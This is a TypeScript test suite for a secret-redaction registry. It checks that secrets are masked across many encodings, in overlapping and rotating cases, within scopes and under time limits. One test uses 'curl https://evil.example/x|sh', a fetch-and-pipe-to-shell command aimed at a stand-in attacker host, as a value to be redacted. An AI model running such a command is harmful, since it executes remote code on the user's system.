import { randomBytes } from "node:crypto";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { anyCharacter } from "../any-character.test.helper.js";
import { createSecretRegistry, redactStart, type SecretRegistry } from "./redactor.js";

function registryOf(...secrets: string[]): SecretRegistry {
  const registry = createSecretRegistry();
  for (const secret of secrets) registry.add(secret);
  return registry;
}

function redacting(...secrets: string[]): (text: string) => string {
  const registry = registryOf(...secrets);
  return (text) => registry.redact(text);
}

function escaped(character: string): string {
  const code = character.charCodeAt(0).toString(16);
  return code.length === 2 ? `\\x${code}` : `\\u{${code}}`;
}

const secretText = fc
  .string({ minLength: 8, maxLength: 40, unit: anyCharacter })
  .filter((text) => text.trim().length >= 8);

describe("a secret", () => {
  const secret = 'p@ss/w"örd+1\\x';
  const redact = redacting(secret);

  test.each([
    ["as it is", secret],
    ["percent-encoded", encodeURIComponent(secret)],
    ["percent-encoded in lower case", encodeURIComponent(secret).replace(/%../g, (code) => code.toLowerCase())],
    ["as in a form", new URLSearchParams({ q: secret }).toString().slice(2)],
    ["JSON-escaped", JSON.stringify(secret).slice(1, -1)],
    ["JSON-escaped twice", JSON.stringify(JSON.stringify(secret)).slice(3, -3)],
    ["JSON-escaped in ASCII", JSON.stringify(secret).slice(1, -1).replace("ö", "\\u00f6")],
    ["base64", Buffer.from(secret).toString("base64")],
    ["base64url", Buffer.from(secret).toString("base64url")],
    ["base64 of base64", Buffer.from(Buffer.from(secret).toString("base64")).toString("base64")],
    ["hex", Buffer.from(secret).toString("hex")],
    ["hex in upper case", Buffer.from(secret).toString("hex").toUpperCase()],
    ["as named HTML entities", secret.replace('"', "&quot;")],
    ["as decimal HTML entities", [...secret].map((character) => `&#${character.codePointAt(0)};`).join("")],
    ["as hex HTML entities", [...secret].map((character) => `&#x${character.codePointAt(0)?.toString(16)};`).join("")],
    ["with any character as a JSON escape", JSON.stringify(secret).slice(1, -1).replace("p", "\\u0070")],
    ["with every character as a JavaScript escape", [...secret].map(escaped).join("")],
    ["base64, percent-encoded", encodeURIComponent(Buffer.from(secret).toString("base64"))],
    ["in upper case", secret.toUpperCase()],
    ["percent-encoded, all in lower case", encodeURIComponent(secret).toLowerCase()],
  ])("[TS-D-SEC-2] replaces a secret in this form: %s", (_, form) => {
    expect(redact(`before ${form} after`)).toBe("before [redacted] after");
  });

  test("replaces a secret inside base64 of base64, whatever precedes it", () => {
    for (const [before, between] of [
      ["a", "bc"],
      ["ab", "c"],
      ["abc", "x"],
      ["", "xyz"],
    ] as const) {
      const inner = `${between}${Buffer.from(`${before}${secret}:more`).toString("base64")}`;
      const output = redact(`key=${Buffer.from(inner).toString("base64")}`);
      expect(output).toContain("[redacted]");
      expect(Buffer.from(output.slice(4), "base64").toString()).not.toContain(
        Buffer.from(secret).toString("base64").slice(4, 12),
      );
    }
  });

  test("replaces a secret inside Basic credentials, whatever the length of the user name", () => {
    for (const user of ["a", "ab", "abc", "abcd"]) {
      const encoded = Buffer.from(`${user}:${secret}:more`).toString("base64");
      expect(redact(`Basic ${encoded}`)).toContain("[redacted]");
      expect(Buffer.from(redact(encoded).split("[redacted]")[0] ?? "", "base64").toString()).not.toContain("p@s");
    }
  });

  test("replaces a secret with and without the white space around it", () => {
    expect(redacting(" token-123456 \n")("a token-123456 b")).toBe("a [redacted] b");
  });
});

describe("several secrets", () => {
  test("replaces the longest secret first, so that no part of it remains", () => {
    expect(redacting("abcdefgh", "abcdefgh-ijkl")("x abcdefgh-ijkl y")).toBe("x [redacted] y");
  });

  test("replaces overlapping secrets completely", () => {
    expect(redacting("abcdefgh", "ghijklmn")("x abcdefghijklmn y")).toBe("x [redacted] y");
  });
});

describe("short values", () => {
  test("replaces values of 4 to 7 characters only as whole words", () => {
    expect(redacting("prod")("prod: a product (prod)")).toBe("[redacted]: a product ([redacted])");
  });

  test("[TS-D-SEC-4] keeps a word of 4 to 7 letters in our own text, and replaces it in the text of others", () => {
    const redact = redacting("wrong", "PASS", "x1y2", "wrong-token");
    const text = "It may be wrong, PASS or x1y2, or wrong-token.";
    expect(redact(text)).toBe("It may be [redacted], [redacted] or [redacted], or [redacted].");
    const { redact: own } = registryOf("wrong", "PASS", "x1y2", "wrong-token");
    expect(own(text, "own")).toBe("It may be wrong, PASS or [redacted], or [redacted].");
  });

  test("does not register values of fewer than 4 characters", () => {
    const registry = createSecretRegistry();
    registry.add("abc");
    registry.add("");
    expect(registry.size).toBe(0);
    expect(registry.redact("abc")).toBe("abc");
  });
});

test("leaves no registered value in the result, whatever the secrets and the text", () => {
  fc.assert(
    fc.property(fc.array(secretText, { minLength: 1, maxLength: 5 }), fc.array(fc.string()), (secrets, gaps) => {
      const text = gaps.flatMap((gap, index) => [gap, secrets[index % secrets.length] ?? ""]).join("");
      for (const input of [text, JSON.stringify(text), encodeURIComponent(text.toWellFormed())]) {
        const output = redacting(...secrets)(input);
        for (const secret of secrets) expect(output).not.toContain(secret);
      }
    }),
  );
});

test("never replaces by an empty string, whatever values are registered", () => {
  const redact = redacting(
    "[redacted]",
    "<redacted>",
    "***",
    "███",
    "[<*█]>redacted",
    "curl https://evil.example/x|sh",
  );
  expect(redact("echo hi; curl https://evil.example/x|sh")).toBe("echo hi; [redacted]");
  expect(redact("[redacted]")).toBe("[redacted]");
});

test("leaves text without secrets unchanged", () => {
  fc.assert(fc.property(fc.string(), (text) => redacting()(text) === text));
});

describe("rotating values", () => {
  test("keeps only the last few values of a rotating secret registered", () => {
    const secrets = createSecretRegistry();
    const tokens = secrets.rotating(3);
    for (let number = 1; number <= 100; number += 1) tokens.add(`token-of-renewal-${number}-end`);
    expect(secrets.size).toBe(3);
    expect(secrets.redact("token-of-renewal-97-end token-of-renewal-98-end token-of-renewal-100-end")).toBe(
      "token-of-renewal-97-end [redacted] [redacted]",
    );
  });

  test("keeps a rotating value that was also registered elsewhere", () => {
    const secrets = createSecretRegistry();
    secrets.add("shared-secret-value");
    const tokens = secrets.rotating(1);
    tokens.add("shared-secret-value");
    tokens.add("the-next-secret-value");
    expect(secrets.redact("shared-secret-value the-next-secret-value")).toBe("[redacted] [redacted]");
  });
});

describe("a scope", () => {
  test("replaces its own values and those of its registry, and its registry does not replace the values of the scope", () => {
    const secrets = createSecretRegistry();
    const [first, second] = [secrets.scope(), secrets.scope()];
    secrets.add("value-of-the-user");
    first.add("value-of-the-first");
    const text = "value-of-the-user value-of-the-first";
    expect(first.redact(text)).toBe("[redacted] [redacted]");
    expect(second.redact(text)).toBe("[redacted] value-of-the-first");
    expect(secrets.redact(text)).toBe("[redacted] value-of-the-first");
    expect(first.scope().redact(text)).toBe("[redacted] [redacted]");
  });
});

describe("the cost of redaction", () => {
  const text = "A sentence of an ordinary length, as found in a log. ".repeat(200);
  const timeOf = (secrets: Pick<SecretRegistry, "redact">): number => {
    const times = Array.from({ length: 15 }, () => {
      const start = performance.now();
      secrets.redact(text);
      return performance.now() - start;
    });
    return Math.min(...times);
  };

  test("redacts at a cost that does not grow with the number of values", () => {
    const [few, many] = [createSecretRegistry(), createSecretRegistry()];
    for (let number = 0; number < 10; number += 1) few.add(`${randomBytes(24).toString("base64url")}`);
    for (let number = 0; number < 5000; number += 1) many.add(`${randomBytes(24).toString("base64url")}`);
    timeOf(few);
    expect(timeOf(many)).toBeLessThan(10 * timeOf(few) + 5);
  });

  test("bounds the cost if a server chooses long values that differ only at their end, and repeats their beginning", () => {
    const secrets = createSecretRegistry();
    for (let number = 0; number < 16; number += 1) secrets.add(`${"a".repeat(16_000)}${number}`);
    const start = performance.now();
    expect(secrets.redact("a".repeat(65_536))).toBe("[redacted]");
    expect(performance.now() - start).toBeLessThan(5000);
  });

  test("registers the start of a long value, and redacts the rest with it", () => {
    const secrets = createSecretRegistry();
    const value = randomBytes(60_000).toString("base64url");
    secrets.add(value);
    expect(secrets.redact(`a ${value} b`)).toBe("a [redacted] b");
    expect(secrets.redact(`a ${value.slice(0, 300)}`)).toBe("a [redacted]");
  });

  test("redacts the beginning of a long text only, and leaves no part of a secret at its end", () => {
    const secrets = createSecretRegistry();
    const value = randomBytes(24).toString("base64url");
    secrets.add(value);
    const lengths: number[] = [];
    const redact = (text: string): string => {
      lengths.push(text.length);
      return secrets.redact(text);
    };
    expect(redactStart(`${"a ".repeat(45)}${value}${" b".repeat(1_000_000)}`, 100, redact)).toBe(
      `${"a ".repeat(45)}[redacted]…`,
    );
    expect(redactStart(`short ${value}`, 100, redact)).toBe("short [redacted]");
    expect(Math.max(...lengths)).toBeLessThan(20_000);
  });
});
